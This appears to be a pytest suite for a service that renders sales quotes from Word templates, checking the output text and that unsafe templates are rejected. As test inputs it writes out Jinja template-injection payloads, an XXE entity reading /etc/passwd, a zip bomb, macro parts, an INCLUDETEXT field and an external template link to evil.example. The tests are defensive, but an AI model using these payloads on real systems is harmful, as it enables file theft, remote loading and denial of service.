"""Quotes on Word templates: what they say, and what a template may not do."""

import io
import zipfile

import pytest
from docx import Document

from cpq_svc.adapters.documents.own_process import DocumentLate, OwnProcess
from cpq_svc.adapters.documents.word import WordPaper
from cpq_svc.adapters.documents.word_words import EXAMPLE_QUOTE
from cpq_svc.domain.letterhead import Seller
from cpq_svc.domain.word_template import (
    WordTemplateMarkWrong,
    WordTemplateTooSlow,
    WordTemplateUnreadable,
    WordTemplateUnsafe,
)
from kernel.errors import Rejected
from papers import FixedStationery

PAPER = WordPaper(FixedStationery(Seller("示例机械有限公司", "Example Machinery")), OwnProcess(15))
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def a_template(*paragraphs: str) -> bytes:
    document, file = Document(), io.BytesIO()
    for words in paragraphs:
        document.add_paragraph(words)
    document.save(file)
    return file.getvalue()


def with_part(content: bytes, name: str, change) -> bytes:
    """The same package with one part put in, or another than it was."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as before,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        parts = {part: before.read(part) for part in before.namelist()}
        parts[name] = change(parts.get(name, b""))
        for part, body in parts.items():
            after.writestr(part, body)
    return file.getvalue()


def words_of(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    around = [
        each.text
        for section in document.sections
        for each in section.header.paragraphs + section.footer.paragraphs
    ]
    return "\n".join([*(each.text for each in document.paragraphs), *cells, *around])


@pytest.mark.parametrize(("language", "seller", "line"), [("zh", "示例机械有限公司", "注塑机"), ("en", "Example Machinery", "Machine")])  # fmt: skip
def test_our_example_says_totals_lines_and_terms(language, seller, line):
    told = words_of(PAPER.quote(EXAMPLE_QUOTE, language, None))
    for words in (
        seller,
        line,
        "113.00",
        "人民币壹佰壹拾叁元整",
        "HX-160",
        "45 mm",
        "1600 kN",
        "BJ-2026-000001",
        "宁波",
    ):
        assert words in told, words
    assert "{" not in told


def test_words_of_a_customer_are_words_and_no_marks():
    evil = "A & B <w:p/> {{ quote.total }} {% if %}\x07"
    for nasty in ({"accountName": evil, "buyer": {}}, {"buyer": {"kind": "dealer", "name": evil}}):
        told = words_of(PAPER.quote({**EXAMPLE_QUOTE, **nasty}, "zh", a_template("{{ quote.customer }}")))
        assert "A & B <w:p/> {{ quote.total }} {% if %}" in told


@pytest.mark.parametrize("name", [None, ""])
def test_an_owner_without_a_name_leaves_its_place_empty(name):
    told = words_of(PAPER.quote({**EXAMPLE_QUOTE, "ownerName": name}, "zh", None))
    assert "None" not in told and "联系人: \n" in told


def test_what_is_ours_alone_is_not_there_to_be_named():
    ours = {**EXAMPLE_QUOTE, "internalNotes": "只给自己看", "costs": []}
    with pytest.raises(WordTemplateMarkWrong):
        PAPER.quote(ours, "zh", a_template("{{ quote.internalNotes }}"))


@pytest.mark.parametrize(
    ("mark", "told"),
    [
        ("合计 {{ quote.totl }} 元", "{{ quote.totl }}"),
        ("{% for line in liens %}{{ line.no }}{% endfor %}", "{% for line in liens %}"),
        ("{% if quote.draft %}草稿", "{% if quote.draft %}"),
        ("{{ quote.total | nosuch }}", "{{ quote.total | nosuch }}"),
        ("{{ range(10) }}", "{{ range(10) }}"),
    ],
)
def test_a_wrong_mark_is_named_with_its_paragraph(mark, told):
    with pytest.raises(WordTemplateMarkWrong) as no:
        PAPER.check(a_template("第一段", mark), "zh")
    assert no.value.pointer == "/file"
    assert (no.value.params["mark"], no.value.params["place"][:6]) == (told, mark[:6])


@pytest.mark.parametrize(
    "mark",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ quote.__class__ }}",
        "{{ quote|attr('__class__') }}",
        "{{ quote.update({'total': '0'}) }}",
        "{{ quote.keys() }}",
        "{{ self.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ lipsum.__globals__ }}",
        "{{ cycler.__init__ }}",
        "{{ '{0.__class__}'.format(quote) }}",
    ],
)
def test_a_template_reaches_nothing_but_the_words_of_the_quote(mark):
    with pytest.raises(WordTemplateMarkWrong):
        PAPER.check(a_template(mark), "zh")


@pytest.mark.parametrize(
    "mark",
    [
        "{% set a = 'x' * 1000 %}{% for i in a %}{% for j in a %}{% for k in a %}{% endfor %}{% endfor %}{% endfor %}",
        "{{ 'x' * 10**10 }}",
        "{{ 10 ** (10 ** 10) }}",
    ],
)
def test_what_never_ends_is_ended(mark):
    with pytest.raises((WordTemplateTooSlow, DocumentLate, WordTemplateMarkWrong)):
        WordPaper(FixedStationery(Seller("甲", "A")), OwnProcess(6)).check(a_template(mark), "zh")


def bomb() -> bytes:
    return with_part(a_template("x"), "word/media/image1.png", lambda _: b"\0" * (60 << 20))


def doctype(body: bytes) -> bytes:
    head, _, rest = body.partition(b"?>")
    return (
        head
        + b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + rest.replace(b"<w:t>x<", b"<w:t>&x;<")
    )


def link(body: bytes) -> bytes:
    outside = (
        f'<Relationship Id="rIdX" Type="{LINK}" Target="https://evil.example/t.dotx" TargetMode="External"/>'
    )
    return body.replace(b"</Relationships>", outside.encode() + b"</Relationships>")


def field(body: bytes) -> bytes:
    return body.replace(
        b"<w:t>x</w:t>", b'<w:instrText> INCLUDE</w:instrText><w:instrText>TEXT "c:/x" </w:instrText>'
    )


XML = b'<?xml version="1.0"?><w:t xmlns:w="w">x</w:t>'


def renamed(before: str, after: str, change) -> bytes:
    """A document with one part under another name, which its package and its relations tell."""
    file, short = io.BytesIO(), (before.rpartition("/")[2].encode(), after.rpartition("/")[2].encode())
    with zipfile.ZipFile(io.BytesIO(a_template("x"))) as old, zipfile.ZipFile(file, "w") as new:
        for part in old.namelist():
            if part == before:
                new.writestr(after, change(old.read(part)))
            else:
                said = part in ("[Content_Types].xml", "_rels/.rels")
                new.writestr(part, old.read(part).replace(*short) if said else old.read(part))
    return file.getvalue()


def in_utf_16(body: bytes) -> bytes:
    words = (
        field(body).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "")
    )
    return words.encode("utf-16")


def macros(body: bytes) -> bytes:
    told = b'<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return body.replace(b"</Types>", told)


def packed(body: bytes) -> bytes:
    kind = LINK.replace("attachedTemplate", "package")
    told = f'<Relationship Id="rIdP" Type="{kind}" Target="x.dat"/></Relationships>'
    return body.replace(b"</Relationships>", told.encode())


@pytest.mark.parametrize(
    ("content", "no", "what"),
    [
        (b"no zip at all", WordTemplateUnreadable, None),
        (with_part(a_template("x"), "[Content_Types].xml", lambda _: b"<Types/>"), WordTemplateUnreadable, None),
        (bomb(), WordTemplateUnreadable, None),
        (with_part(a_template("x"), "word/document.xml", doctype), WordTemplateUnsafe, "entity"),
        (with_part(a_template("x"), "word/_rels/document.xml.rels", link), WordTemplateUnsafe, "link"),
        (with_part(a_template("x"), "word/document.xml", field), WordTemplateUnsafe, "field"),
        (with_part(a_template("x"), "word/vbaProject.bin", lambda _: b"x"), WordTemplateUnsafe, "object"),
        (with_part(a_template("x"), "word/EXTRA.XML", lambda _: doctype(XML)), WordTemplateUnsafe, "entity"),
        (renamed("word/document.xml", "word/body.dat", doctype), WordTemplateUnsafe, "entity"),
        (renamed("word/document.xml", "word/body.dat", field), WordTemplateUnsafe, "field"),
        (renamed("word/document.xml", "word/body.dat", in_utf_16), WordTemplateUnsafe, "field"),
        (with_part(a_template("x"), "[Content_Types].xml", macros), WordTemplateUnsafe, "object"),
        (with_part(a_template("x"), "word/_rels/document.xml.rels", packed), WordTemplateUnsafe, "object"),
        (with_part(a_template("x"), "WORD/document.xml", lambda _: XML), WordTemplateUnreadable, None),
    ],
)  # fmt: skip
def test_a_hostile_package_is_refused(content, no, what):
    with pytest.raises(Rejected) as refused:
        PAPER.check(content, "zh")
    assert (type(refused.value), refused.value.params.get("what")) == (no, what)


def test_an_ordinary_link_on_the_paper_is_let_pass():
    kind = LINK.replace("attachedTemplate", "hyperlink")
    mail = lambda body: body.replace(  # noqa: E731
        b"</Relationships>",
        f'<Relationship Id="rIdM" Type="{kind}" Target="mailto:a@b.example" TargetMode="External"/></Relationships>'.encode(),
    )
    PAPER.check(with_part(a_template("{{ quote.total }}"), "word/_rels/document.xml.rels", mail), "zh")
